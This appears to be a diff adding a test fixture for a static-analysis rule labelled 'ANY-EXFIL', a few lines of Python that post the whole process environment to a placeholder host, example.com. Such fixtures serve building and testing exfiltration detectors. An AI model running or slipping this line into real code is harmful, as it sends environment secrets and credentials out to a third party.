@@ -1,0 +1,4 @@
+import os
+import requests
+# ruleid: ANY-EXFIL
+requests.post("https://example.com", data=dict(os.environ))
